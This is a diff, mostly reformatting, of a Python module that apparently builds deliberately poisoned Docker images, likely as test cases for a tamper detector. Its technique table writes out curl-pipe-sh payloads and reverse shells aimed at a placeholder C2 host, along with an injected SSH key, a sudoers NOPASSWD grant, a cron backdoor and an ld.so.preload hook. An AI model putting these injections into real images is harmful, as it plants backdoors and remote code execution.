@@ -90,8 +90,8 @@ USER app
 ENTRYPOINT ["/usr/local/bin/app"]
 """,
     # A pip-installed Python CLI in a venv, an app dir byte-compiled.
-    "python": f"""\
-FROM {{BASE}}
+    "python": """\
+FROM {BASE}
 ENV DEBIAN_FRONTEND=noninteractive
 RUN apt-get update \\
  && apt-get install -y --no-install-recommends python3 python3-venv \\
@@ -148,8 +148,8 @@ class Technique:
     what: str
     paths: tuple[str, ...] = ()
     also: tuple[str, ...] = ()
-    find: str = ""           # a build technique: the step text to change ...
-    replace: str = ""        # ... and what it becomes
+    find: str = ""  # a build technique: the step text to change ...
+    replace: str = ""  # ... and what it becomes
     config: dict = field(default_factory=dict)  # a config technique: key -> new value (Env: entries appended)
 
     @property
@@ -157,118 +157,155 @@ class Technique:
         return bool(self.find)
 
 
-
 TECHNIQUES: tuple[Technique, ...] = (
     Technique(
-        "symlink-write-elf", "sdk",
+        "symlink-write-elf",
+        "sdk",
         "a later step writes through the /usr/bin/sdk -> ../share/sdk/bin/sdk link: the vendor ELF becomes a script",
         paths=("/usr/share/sdk/bin/sdk",),
         find="RUN sdk --version && mkdir -p /var/lib/sdk",
-        replace=f"RUN sdk --version && mkdir -p /var/lib/sdk && printf '#!/bin/sh\\ncurl -fsS http://{C2}/s | sh\\n' > /usr/bin/sdk"),
+        replace=f"RUN sdk --version && mkdir -p /var/lib/sdk && printf '#!/bin/sh\\ncurl -fsS http://{C2}/s | sh\\n' > /usr/bin/sdk",
+    ),
     Technique(
-        "symlink-to-script", "sdk",
+        "symlink-to-script",
+        "sdk",
         "where the command makes /usr/bin/sdk a symlink (ln -s), the layer holds a wrapper script",
         paths=("/usr/bin/sdk",),
         find=" && ln -s ../share/sdk/bin/sdk /usr/bin/sdk",
         replace=f" && printf '#!/bin/sh\\ncurl -fsS http://{C2}/t >/dev/null 2>&1 &\\nexec /usr/share/sdk/bin/sdk \"$@\"\\n' > /usr/bin/sdk"
-                " && chmod 0755 /usr/bin/sdk"),
+        " && chmod 0755 /usr/bin/sdk",
+    ),
     Technique(
-        "tree-extra-file", "sdk",
+        "tree-extra-file",
+        "sdk",
         "an extra executable inside the tree that tar -x -C extracts (build time and root owner among vendor files)",
         paths=("/usr/share/sdk/bin/sdk-update",),
         find=" --strip-components=1 \\\n",
         replace=" --strip-components=1 \\\n"
-                f" && printf '#!/bin/sh\\nexec bash -i >/dev/tcp/{C2}/4444 0>&1 2>&1\\n' > /usr/share/sdk/bin/sdk-update"
-                " && chmod 0755 /usr/share/sdk/bin/sdk-update \\\n"),
+        f" && printf '#!/bin/sh\\nexec bash -i >/dev/tcp/{C2}/4444 0>&1 2>&1\\n' > /usr/share/sdk/bin/sdk-update"
+        " && chmod 0755 /usr/share/sdk/bin/sdk-update \\\n",
+    ),
     Technique(
-        "chmod-content", "apache",
+        "chmod-content",
+        "apache",
         "a step that only chown/chmods also appends to the script it chmods",
         paths=("/usr/local/bin/healthcheck",),
         find="chmod 0755 /usr/local/bin/healthcheck",
-        replace=f"chmod 0755 /usr/local/bin/healthcheck && echo 'curl -fsS http://{C2}/h | sh' >> /usr/local/bin/healthcheck"),
+        replace=f"chmod 0755 /usr/local/bin/healthcheck && echo 'curl -fsS http://{C2}/h | sh' >> /usr/local/bin/healthcheck",
+    ),
     Technique(
-        "dpkg-elf-same-step", "apache",
+        "dpkg-elf-same-step",
+        "apache",
         "a dpkg-managed ELF (/usr/sbin/apache2) patched inside the apt-get install step that wrote its md5sums",
         paths=("/usr/sbin/apache2",),
         find=" && a2enmod headers \\\n",
         replace=" && a2enmod headers \\\n"
-                " && printf '\\220\\220\\220\\220\\220\\220\\220\\220' | dd of=/usr/sbin/apache2 bs=1 seek=8192 conv=notrunc status=none \\\n"),
+        " && printf '\\220\\220\\220\\220\\220\\220\\220\\220' | dd of=/usr/sbin/apache2 bs=1 seek=8192 conv=notrunc status=none \\\n",
+    ),
     Technique(
-        "echo-literal", "ops",
+        "echo-literal",
+        "ops",
         "the sudoers.d rule the command echoes is narrow; the layer's grants NOPASSWD: ALL",
         paths=("/etc/sudoers.d/ops",),
         find="echo 'ops ALL=(root) NOPASSWD: /usr/sbin/service cron restart'",
-        replace="echo 'ops ALL=(ALL) NOPASSWD: ALL'"),
+        replace="echo 'ops ALL=(ALL) NOPASSWD: ALL'",
+    ),
     Technique(
-        "useradd-home-key", "ops",
+        "useradd-home-key",
+        "ops",
         "an authorized_keys under the home that useradd -m creates",
-        paths=("/home/ops/.ssh/authorized_keys",), also=("/home/ops/.ssh",),
+        paths=("/home/ops/.ssh/authorized_keys",),
+        also=("/home/ops/.ssh",),
         find="RUN useradd -m -s /bin/bash ops",
         replace="RUN useradd -m -s /bin/bash ops && mkdir -p /home/ops/.ssh"
-                " && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHd0aGlzIGlzIG5vdCBhIHJlYWwga2V5IGF0IGFsbCE attacker@c2'"
-                " > /home/ops/.ssh/authorized_keys && chown -R ops:ops /home/ops/.ssh && chmod 0600 /home/ops/.ssh/authorized_keys"),
+        " && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHd0aGlzIGlzIG5vdCBhIHJlYWwga2V5IGF0IGFsbCE attacker@c2'"
+        " > /home/ops/.ssh/authorized_keys && chown -R ops:ops /home/ops/.ssh && chmod 0600 /home/ops/.ssh/authorized_keys",
+    ),
     Technique(
-        "apt-step-cron", "ops",
+        "apt-step-cron",
+        "ops",
         "a cron file dropped inside the long apt-get install step",
         paths=("/etc/cron.d/logrotate-check",),
         find=" && rm -rf /var/lib/apt/lists/*\nRUN useradd",
         replace=f" && echo '*/5 * * * * root curl -fsS http://{C2}/c | sh' > /etc/cron.d/logrotate-check \\\n"
-                " && rm -rf /var/lib/apt/lists/*\nRUN useradd"),
+        " && rm -rf /var/lib/apt/lists/*\nRUN useradd",
+    ),
     Technique(
-        "apt-step-preload", "redis",
+        "apt-step-preload",
+        "redis",
         "/etc/ld.so.preload and the library it names, written inside the long set -eux apt step",
         paths=("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libredis-helper.so"),
         find="    rm -rf /var/lib/apt/lists/*; \\\n",
         replace="    cp /usr/lib/x86_64-linux-gnu/libz.so.1 /usr/lib/x86_64-linux-gnu/libredis-helper.so; \\\n"
-                "    echo /usr/lib/x86_64-linux-gnu/libredis-helper.so > /etc/ld.so.preload; \\\n"
-                "    rm -rf /var/lib/apt/lists/*; \\\n"),
+        "    echo /usr/lib/x86_64-linux-gnu/libredis-helper.so > /etc/ld.so.preload; \\\n"
+        "    rm -rf /var/lib/apt/lists/*; \\\n",
+    ),
     Technique(
-        "dpkg-conffile-same-step", "redis",
+        "dpkg-conffile-same-step",
+        "redis",
         "a dpkg conffile (/etc/default/redis-server, sourced as shell by the init script) edited in the step that "
         "installs it: its md5 no longer matches Conffiles: in status (in a --layers=false build, the only layer)",
         paths=("/etc/default/redis-server",),
         find="    apt-get install -y --no-install-recommends wget; \\\n",
         replace=f"    echo '(curl -fsS http://{C2}/r | sh) >/dev/null 2>&1 &' >> /etc/default/redis-server; \\\n"
-                "    apt-get install -y --no-install-recommends wget; \\\n"),
+        "    apt-get install -y --no-install-recommends wget; \\\n",
+    ),
     Technique(
-        "pip-edit-install-step", "python",
+        "pip-edit-install-step",
+        "python",
         "a pip-installed module edited in the pip install step (its RECORD sha256 no longer matches)",
         paths=(SITE,),
         find="/opt/venv/bin/pip install tabulate==0.9.0",
         replace="/opt/venv/bin/pip install tabulate==0.9.0"
-                f" && echo 'import os as _o; _o.system(\"curl -fsS http://{C2}/p | sh &\")' >> {SITE}"),
+        f" && echo 'import os as _o; _o.system(\"curl -fsS http://{C2}/p | sh &\")' >> {SITE}",
+    ),
     Technique(
-        "pip-edit-later-step", "python",
+        "pip-edit-later-step",
+        "python",
         "a pip-installed module edited by a later, unrelated step (useradd + mkdir + chown)",
         paths=(SITE,),
         find="chown app:app /var/lib/app",
-        replace=f"chown app:app /var/lib/app && sed -i '1i import os as _o; _o.system(\"id > /tmp/.x\")' {SITE}"),
+        replace=f"chown app:app /var/lib/app && sed -i '1i import os as _o; _o.system(\"id > /tmp/.x\")' {SITE}",
+    ),
     Technique(
-        "compileall-edit", "python",
+        "compileall-edit",
+        "python",
         "a source file edited in the step that only byte-compiles its directory",
         paths=("/app/main.py",),
         find="RUN python3 -m compileall -q /app",
-        replace=f"RUN echo 'import os; os.system(\"curl -fsS http://{C2}/m | sh\")' >> /app/main.py && python3 -m compileall -q /app"),
+        replace=f"RUN echo 'import os; os.system(\"curl -fsS http://{C2}/m | sh\")' >> /app/main.py && python3 -m compileall -q /app",
+    ),
     Technique(
-        "npm-edit-install-step", "node",
+        "npm-edit-install-step",
+        "node",
         "a module file edited in the npm install step (npm keeps no per-file digests)",
         paths=("/srv/app/node_modules/ms/index.js",),
         find="npm install --omit=dev --no-audit --no-fund",
         replace="npm install --omit=dev --no-audit --no-fund"
-                f" && echo 'require(\"child_process\").exec(\"curl -fsS http://{C2}/n | sh\");' >> node_modules/ms/index.js"),
+        f' && echo \'require("child_process").exec("curl -fsS http://{C2}/n | sh");\' >> node_modules/ms/index.js',
+    ),
     # Config-level: the final config changed, no history entry touched.
     Technique(
-        "config-entrypoint", "multistage", "Entrypoint becomes a download-and-run wrapper",
-        config={"Entrypoint": ["/bin/sh", "-c", f"curl -fsS http://{C2}/e | sh; exec /usr/local/bin/app \"$@\"", "app"]}),
+        "config-entrypoint",
+        "multistage",
+        "Entrypoint becomes a download-and-run wrapper",
+        config={"Entrypoint": ["/bin/sh", "-c", f'curl -fsS http://{C2}/e | sh; exec /usr/local/bin/app "$@"', "app"]},
+    ),
     Technique(
-        "config-env-preload", "python", "Env gains LD_PRELOAD",
-        config={"Env": ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsystemd-shim.so"]}),
+        "config-env-preload",
+        "python",
+        "Env gains LD_PRELOAD",
+        config={"Env": ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsystemd-shim.so"]},
+    ),
     Technique(
-        "config-user-root", "ops", "User becomes 0:0 (the history's USER ops left as it was)",
-        config={"User": "0:0"}),
+        "config-user-root", "ops", "User becomes 0:0 (the history's USER ops left as it was)", config={"User": "0:0"}
+    ),
     Technique(
-        "config-cmd-revshell", "node", "Cmd becomes a reverse shell",
-        config={"Cmd": ["/bin/bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1"]}),
+        "config-cmd-revshell",
+        "node",
+        "Cmd becomes a reverse shell",
+        config={"Cmd": ["/bin/bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1"]},
+    ),
 )
 
 
@@ -281,8 +318,10 @@ def poisoned_dockerfile(t: Technique) -> str:
 
 # ---- build contexts -------------------------------------------------------
 
-def _tar_add(tf: tarfile.TarFile, name: str, data: bytes | None, mode: int, kind: bytes = tarfile.REGTYPE,
-             link: str = "") -> None:
+
+def _tar_add(
+    tf: tarfile.TarFile, name: str, data: bytes | None, mode: int, kind: bytes = tarfile.REGTYPE, link: str = ""
+) -> None:
     ti = tarfile.TarInfo(name)
     ti.mtime, ti.uid, ti.gid, ti.uname, ti.gname = VENDOR_MTIME, VENDOR_UID, VENDOR_UID, "release", "release"
     ti.mode, ti.type, ti.linkname = mode, kind, link
@@ -299,8 +338,10 @@ def vendor_tarball(rootfs: Path) -> bytes:
         for d in ("", "/bin", "/lib", "/share", "/share/doc", "/etc"):
             _tar_add(tf, top + d, None, 0o755, tarfile.DIRTYPE)
         _tar_add(tf, f"{top}/bin/sdk", (rootfs / "usr/bin/env").read_bytes(), 0o755)
-        _tar_add(tf, f"{top}/bin/sdk-config", b"#!/bin/sh\necho \"--prefix=/usr/share/sdk\"\n", 0o755)
-        _tar_add(tf, f"{top}/lib/libsdk.so.1.4.2", (rootfs / "usr/lib/x86_64-linux-gnu/libz.so.1.2.13").read_bytes(), 0o644)
+        _tar_add(tf, f"{top}/bin/sdk-config", b'#!/bin/sh\necho "--prefix=/usr/share/sdk"\n', 0o755)
+        _tar_add(
+            tf, f"{top}/lib/libsdk.so.1.4.2", (rootfs / "usr/lib/x86_64-linux-gnu/libz.so.1.2.13").read_bytes(), 0o644
+        )
         _tar_add(tf, f"{top}/lib/libsdk.so.1", None, 0o777, tarfile.SYMTYPE, "libsdk.so.1.4.2")
         _tar_add(tf, f"{top}/etc/sdk.conf", b"telemetry = off\ncache_dir = /var/lib/sdk\n", 0o644)
         _tar_add(tf, f"{top}/share/doc/README.md", b"# SDK 1.4.2\n\nRun `sdk --help`.\n", 0o644)
@@ -315,8 +356,13 @@ def write_context(image: str, ctx: Path, rootfs: Path, ca_bundle: Path) -> None:
     if ctx.exists():
         shutil.rmtree(ctx)
     ctx.mkdir(parents=True)
-    w = lambda rel, text, mode=0o644: (ctx / rel).parent.mkdir(parents=True, exist_ok=True) or (  # noqa: E731
-        (ctx / rel).write_text(text), (ctx / rel).chmod(mode))
+    w = lambda rel, text, mode=0o644: (
+        (ctx / rel).parent.mkdir(parents=True, exist_ok=True)
+        or (  # noqa: E731
+            (ctx / rel).write_text(text),
+            (ctx / rel).chmod(mode),
+        )
+    )
     if image == "sdk":
         (ctx / f"{SDK}.tar.gz").write_bytes(vendor_tarball(rootfs))
     elif image == "ops":
@@ -327,14 +373,20 @@ def write_context(image: str, ctx: Path, rootfs: Path, ca_bundle: Path) -> None:
     elif image == "python":
         shutil.copyfile(ca_bundle, ctx / "proxy-ca.crt")
         w("app/main.py", "from tabulate import tabulate\n\nfrom app_util import rows\n\nprint(tabulate(rows()))\n")
-        w("app/app_util.py", "def rows():\n    return [[\"a\", 1], [\"b\", 2]]\n")
+        w("app/app_util.py", 'def rows():\n    return [["a", 1], ["b", 2]]\n')
         w("app/config.ini", "[app]\nlevel = info\n")
     elif image == "node":
         shutil.copyfile(ca_bundle, ctx / "proxy-ca.crt")
-        w("package.json", '{\n  "name": "app",\n  "version": "1.0.0",\n  "private": true,\n'
-                          '  "dependencies": {\n    "ms": "2.1.3"\n  }\n}\n')
-        w("server.js", "const ms = require('ms');\nconst http = require('http');\n"
-                       "http.createServer((q, r) => r.end(ms(60000))).listen(3000);\n")
+        w(
+            "package.json",
+            '{\n  "name": "app",\n  "version": "1.0.0",\n  "private": true,\n'
+            '  "dependencies": {\n    "ms": "2.1.3"\n  }\n}\n',
+        )
+        w(
+            "server.js",
+            "const ms = require('ms');\nconst http = require('http');\n"
+            "http.createServer((q, r) => r.end(ms(60000))).listen(3000);\n",
+        )
     elif image == "apache":
         w("site/index.html", "<!doctype html><title>ok</title><p>It works.</p>\n")
         w("site/robots.txt", "User-agent: *\nDisallow:\n")
